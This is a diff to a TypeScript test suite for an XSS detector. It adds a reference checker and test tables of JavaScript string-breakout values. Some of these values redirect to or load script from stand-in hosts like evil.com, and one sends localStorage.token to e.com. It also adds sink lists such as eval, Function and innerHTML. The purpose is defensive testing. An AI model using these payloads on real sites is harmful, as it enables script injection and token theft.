@@ -1272,13 +1272,19 @@ const REF_REF = new Set(['localStorage', 'sessionStorage', 'indexedDB', 'XMLHttp
 const REF_SET = new Set(['location', 'onerror', 'onload']);
 const REF_MEMBER_SET = new Set(['src', 'href', 'action', 'innerHTML', 'outerHTML']);
 const REF_KEYWORDS = new Set('new return void typeof await throw yield case delete in of else do instanceof'.split(' '));
+const REF_VALUE = new Set(['alert', 'prompt', 'confirm', 'eval', 'Function']);
 function refBreakout(s: string): boolean {
   let k = 0;
   while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
+  // (Round 2: a number context, `1;import(…)//`: digits glued to `;` and a name, a `//` tail only.)
+  const num = /^-?[0-9]{1,20}[)\]]*;[A-Za-z_$]/.exec(s.slice(k));
   while (k < s.length && k < 10 && s[k] === '\\') k++;
-  const q = s[k];
-  if (q !== "'" && q !== '"' && q !== '`') return false;
-  k++;
+  let q = s[k];
+  if (num !== null) {
+    k += num[0].length - 2;
+    q = '';
+  } else if (q !== "'" && q !== '"' && q !== '`') return false;
+  else k++;
   let stop = Math.min(s.length, k + 8);
   for (let c = 0; ; c++) {
     while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
@@ -1297,7 +1303,7 @@ function refBreakout(s: string): boolean {
   while (e > head && s.charCodeAt(e - 1) <= 32) e--;
   if (e <= head) return false;
   let tail = -1;
-  if (s[e - 1] === q) {
+  if (q !== '' && s[e - 1] === q) {
     let j = e - 2;
     while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
     if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
@@ -1326,6 +1332,7 @@ function refBreakout(s: string): boolean {
     if ((d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
     if ((assign || (d === '.' && blanks === 0)) && REF_SET.has(name)) return true;
     if (assign && s[a - 1] === '.' && REF_MEMBER_SET.has(name)) return true;
+    if ((d === ',' || d === ')') && REF_VALUE.has(name) && /[(,][ \t]{0,4}$/.test(s.slice(0, a))) return true;
   }
   return false;
 }
@@ -1354,5 +1361,121 @@ t.test('breakout scan against a slow reference on a seeded table (session 19)', 
     verdicts.push(verdictKey(d));
   }
   t.ok(flagged > 600, `${flagged} values flagged by the reference`);
-  t.equal(verdictDigest(verdicts), 'df1e4ee2', 'verdicts of the table pinned');
+  // (Review rA: be40fdbe -> df1e4ee2, comments read as blanks and names only in code position;
+  // both merged: b0bb16dc;
+  // round 2: three values gone high, each a sink passed as an argument inside a breakout frame,
+  // `' ,alert)innerHTML//…`, which the reference's BO_VALUE rule flags.)
+  t.equal(verdictDigest(verdicts), 'b0bb16dc', 'verdicts of the table pinned');
+});
+
+t.test('breakouts round 2: a sink passed as a value, a capability named by pieces, a number context (session 19)', async (t) => {
+  const high = [
+    "';Reflect.apply(alert,null,[1])//",
+    "';setTimeout(eval, 0, 'alert(1)')//",
+    "';[1].map(Function)//",
+    "';window['loc'+'ation']='//evil.com'//",
+    "';self['loc'+'ation'].href='//evil.com'//",
+    "';top[\"locat\"+\"ion\"]='//e.com';'",
+    "';x['inner'+'HTML']='<b>'//",
+    "';document['loc'+'ation']='//e.com'//",
+    "';window['fet'+'ch']('//e.com')//",
+    "1;import('//evil.com/x.js')//",
+    "1);location='//evil.com'//",
+    "-1;fetch('//e.com/?'+localStorage.token)//",
+  ];
+  for (const v of high) {
+    const d = detectXss(v);
+    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+  const notHigh = [
+    "';a['b'+'c']=1//",
+    "';items['loc'+'ation']='x'//",
+    "';window['loc'+'ation']//",
+    "';x['src']//",
+    "', alert)//",
+    "window['loc'+'ation'] = x",
+    '1, 2, fetch(url) // then parse',
+    '3 - location= /home // see docs',
+    '10 - open(file) //TODO',
+    '2024-01-01 fetch() //',
+    "1 - import('./mod.js') // lazy load",
+    '1;fetch is nice//',
+    '12;34 // ok',
+    '100; // comment',
+  ];
+  for (const v of notHigh) {
+    const d = detectXss(v);
+    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+// A slow reference for bracketBreakoutName (round 2): inside a quote-headed breakout frame, a regex
+// finds `root[ 'a' + 'b' ]` and the folded name is judged with Sets. On a seeded table, every value
+// the reference flags is high and every value the rule reports is one it flags. (Planted: the
+// BO_ROOTS check dropped, so `items['loc'+'ation']=` counted: 151 failures; any quote closing a
+// piece, `['lo"+'cation']` read as `location`: 6.)
+const BRACKET_ROOTS = new Set(['window', 'self', 'top', 'parent', 'frames', 'globalThis', 'document', 'this']);
+function refBracket(s: string): boolean {
+  if (!/^[ \t]{0,8}['"`][)\]} ]{0,8}[;+\-*|&^%,]/.test(s)) return false;
+  const head = s.search(/[;+\-*|&^%,]/) + 1;
+  let e = s.length;
+  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
+  const q = s.trimStart()[0];
+  let tail = -1;
+  if (s[e - 1] === q) {
+    let j = e - 2;
+    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
+    if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
+  }
+  if (tail === -1) {
+    const t2 = s.lastIndexOf('//', e - 1);
+    if (t2 < head || s[t2 - 1] === ':' || /[\n\r\u2028\u2029]/.test(s.slice(t2 + 2, e))) return false;
+    tail = t2;
+  }
+  const mid = s.slice(0, tail);
+  const re = /([A-Za-z0-9_$]*)\[((?:[ \t]*(?:'[^'\\]*'|"[^"\\]*"|`[^`\\]*`)[ \t]*\+?)+)\]/g;
+  re.lastIndex = head;
+  for (let m = re.exec(mid); m !== null; m = re.exec(mid)) {
+    const inner = m[2]!;
+    if (/\+[ \t]*$/.test(inner) || /^[ \t]*\+/.test(inner) || m[0].length > 98 + m[1]!.length) {
+      re.lastIndex = m.index + m[1]!.length + 1;
+      continue;
+    }
+    const name = [...inner.matchAll(/'([^']*)'|"([^"]*)"|`([^`]*)`/g)].map((x) => x[1] ?? x[2] ?? x[3]).join('');
+    const root = m[1]!.slice(-12);
+    const rooted = BRACKET_ROOTS.has(root) && (m[1]!.length <= 12);
+    const after = mid.slice(m.index + m[0].length).replace(/^[ \t]{0,4}/, '');
+    const d = after[0] ?? '';
+    const assign = d === '=' && after[1] !== '=';
+    if ((d === '(' || d === '`') && REF_CALL.has(name)) return true;
+    if (rooted && (d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
+    if (rooted && (assign || d === '.') && REF_SET.has(name)) return true;
+    if (assign && REF_MEMBER_SET.has(name)) return true;
+    re.lastIndex = m.index + m[1]!.length + 1;
+  }
+  return false;
+}
+
+t.test('bracket names built by pieces in a breakout against a slow reference (round 2)', async (t) => {
+  const heads = ["';", '"+', "')", "'}-", "' ,", '`;'];
+  const tails = ['//', "+'", '// x', ";var a='", '\n//', '://x'];
+  const pieces = [...'\'"`;+ =(.]['].concat(['window', 'self', 'document', 'this', 'items', 'x', "'loc'", "'ation'", '"loc"', '"ation"', "'inner'", "'HTML'", "'fet'", "'ch'", "'src'", "'localStorage'", "'local'", "'Storage'", '==', "'//e.com'", '(1)', "['loc'+'ation']", "['inner'+'HTML']", "['fet'+'ch']", "['lo'+\"cation\"]", "['lo\"+'cation']", "['lo'+\"cation']", "\"loc'"]);
+  let seed = 2020;
+  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
+  let flagged = 0;
+  const verdicts: string[] = [];
+  for (let i = 0; i < 40000; i++) {
+    let s = heads[Math.floor(r() * heads.length)]!;
+    const len = 1 + Math.floor(r() * 7);
+    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
+    s += tails[Math.floor(r() * tails.length)];
+    const d = detectXss(s);
+    const ref = /[(=`]/.test(s) && refBracket(s);
+    if (ref) flagged++;
+    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
+    if (!refBracket(s) && d?.reason.includes('by a built name')) t.fail(`bracket rule without the reference: ${JSON.stringify(s)}`);
+    verdicts.push(verdictKey(d));
+  }
+  t.ok(flagged > 200, `${flagged} values flagged by the reference`);
+  t.equal(verdictDigest(verdicts), '9bbd61c2', 'verdicts of the table pinned');
 });
